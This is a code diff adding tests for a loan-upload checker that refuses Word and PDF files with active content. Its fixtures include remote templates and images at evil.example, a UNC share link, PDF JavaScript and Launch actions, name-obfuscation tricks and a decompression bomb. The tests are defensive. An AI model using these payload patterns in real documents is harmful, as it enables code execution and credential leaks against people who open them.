@@ -1,3 +1,4 @@
+import { deflateSync } from 'node:zlib';
 import type { LoanFileKind } from '@somesa/core';
 import sharp from 'sharp';
 import { describe, expect, it } from 'vitest';
@@ -101,6 +102,156 @@ describe('a picture', () => {
     ],
   ])('that is %s can’t be read', async (_, make) => {
     expect(await check('passportPhoto', await make())).toEqual({ ok: false, error: 'upload_unreadable' });
+  });
+});
+
+const relations = (...tags: string[]) => ({
+  name: 'word/_rels/document.xml.rels',
+  isDeflated: true,
+  bytes: `<?xml version="1.0"?><Relationships>${tags.join('')}</Relationships>`,
+});
+const relation = (type: string, target: string, mode = ' TargetMode="External"') =>
+  `<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/>`;
+/** A PDF with one more object, and the rest as it was. */
+const pdfWith = (object: Buffer | string) =>
+  Buffer.concat([
+    pdf.subarray(0, 9),
+    Buffer.from('9 0 obj\n'),
+    Buffer.from(object),
+    Buffer.from('\nendobj\n'),
+    pdf.subarray(9),
+  ]);
+const stream = (dictionary: string, content: Buffer) =>
+  Buffer.concat([
+    Buffer.from(`<<${dictionary}/Length ${content.length}>>\nstream\n`),
+    content,
+    Buffer.from('\nendstream'),
+  ]);
+const script = '<</S/JavaScript/JS(app.alert(1))>>';
+
+describe('a paper that does more than show itself', () => {
+  it.each<[string, () => Buffer]>([
+    [
+      'a template elsewhere',
+      () => officeFile(wordMain, relations(relation('attachedTemplate', 'https://evil.example/a.dotm'))),
+    ],
+    [
+      'a picture elsewhere',
+      () => officeFile(wordMain, relations(relation('image', 'https://evil.example/a.png'))),
+    ],
+    [
+      'a share of a network',
+      () => officeFile(wordMain, relations(relation('hyperlink', '\\\\evil.example\\a'))),
+    ],
+    [
+      'a mode that is hidden',
+      () =>
+        officeFile(
+          wordMain,
+          relations(relation('image', 'https://evil.example', ' TargetMode="&#69;xternal"')),
+        ),
+    ],
+    [
+      'a target elsewhere without a mode',
+      () => officeFile(wordMain, relations(relation('image', 'file:///c:/a', ''))),
+    ],
+    [
+      'an object',
+      () => officeFile(wordMain, relations(relation('oleObject', 'embeddings/oleObject1.bin', ''))),
+    ],
+    ['an embedded file', () => officeFile(wordMain, { name: 'word/embeddings/Sheet1.xlsx', bytes: 'PK' })],
+    ['a control', () => officeFile(wordMain, { name: 'word/activeX/activeX1.bin', bytes: 'x' })],
+    ['a document to take in', () => officeFile(wordMain, relations(relation('aFChunk', 'a.html', '')))],
+    [
+      'relations in UTF-16',
+      () =>
+        officeFile(wordMain, {
+          name: 'word/_rels/document.xml.rels',
+          bytes: Buffer.from(relation('image', 'https://evil.example'), 'utf16le'),
+        }),
+    ],
+    [
+      'entities',
+      () =>
+        officeFile(wordMain, {
+          name: 'word/_rels/document.xml.rels',
+          bytes: '<!DOCTYPE a [<!ENTITY e "External">]><Relationships/>',
+        }),
+    ],
+    ['a script (PDF)', () => pdfWith(script)],
+    ['a script whose name is hidden (PDF)', () => pdfWith('<</S/J#61vaScript/JS(1)>>')],
+    ['a program to start (PDF)', () => pdfWith('<</Type/Action/S/Launch/F(calc.exe)>>')],
+    ['a form that computes (PDF)', () => pdfWith('<</XFA 3 0 R>>')],
+    [
+      'a script in compressed objects (PDF)',
+      () =>
+        pdfWith(
+          stream('/Type/ObjStm/N 1/First 4/Filter/FlateDecode', deflateSync(Buffer.from(`1 0 ${script}`))),
+        ),
+    ],
+    [
+      'a script in compressed objects of a hidden name (PDF)',
+      () => pdfWith(stream('/Type/Obj#53tm/Filter[/Fl#61teDecode]', deflateSync(Buffer.from(script)))),
+    ],
+    [
+      'objects that are packed twice (PDF)',
+      () => pdfWith(stream('/Type/ObjStm/Filter[/ASCIIHexDecode/FlateDecode]', Buffer.from('00'))),
+    ],
+    [
+      'objects that nobody can read (PDF)',
+      () => pdfWith(stream('/Type/ObjStm/Filter/FlateDecode', Buffer.from('not zlib'))),
+    ],
+    [
+      'more objects than it may (PDF)',
+      () => pdfWith(stream('/Type/ObjStm/Filter/FlateDecode', deflateSync(Buffer.alloc(30 * 1024 * 1024)))),
+    ],
+  ])('is refused with what to do: %s', async (_, make) => {
+    expect(await check('letter', make())).toEqual({ ok: false, error: 'upload_paper_active' });
+  });
+
+  it.each<[string, () => Buffer]>([
+    [
+      'a web link in Word',
+      () =>
+        officeFile(
+          wordMain,
+          relations(
+            relation('hyperlink', 'https://bank.example'),
+            relation('hyperlink', 'mailto:a@b.example'),
+          ),
+        ),
+    ],
+    [
+      'styles and a picture of its own',
+      () =>
+        officeFile(
+          wordMain,
+          relations(
+            relation('styles', 'styles.xml', ''),
+            relation('image', 'media/image1.png', ' TargetMode="Internal"'),
+          ),
+        ),
+    ],
+    [
+      'compressed objects (PDF)',
+      () =>
+        pdfWith(
+          stream(
+            '/Type/ObjStm/N 1/First 4/Filter/FlateDecode',
+            deflateSync(Buffer.from('1 0 <</Type/Page>>')),
+          ),
+        ),
+    ],
+    [
+      'a page that writes of JavaScript (PDF)',
+      () => pdfWith(stream('/Filter/FlateDecode', deflateSync(Buffer.from('(I know /JavaScript) Tj')))),
+    ],
+    [
+      'a link and a destination (PDF)',
+      () => pdfWith('<</OpenAction[3 0 R/Fit]/A<</S/URI/URI(https://bank.example)>>>>'),
+    ],
+  ])('is kept where it is harmless: %s', async (_, make) => {
+    expect(await check('letter', make())).toMatchObject({ ok: true });
   });
 });
 
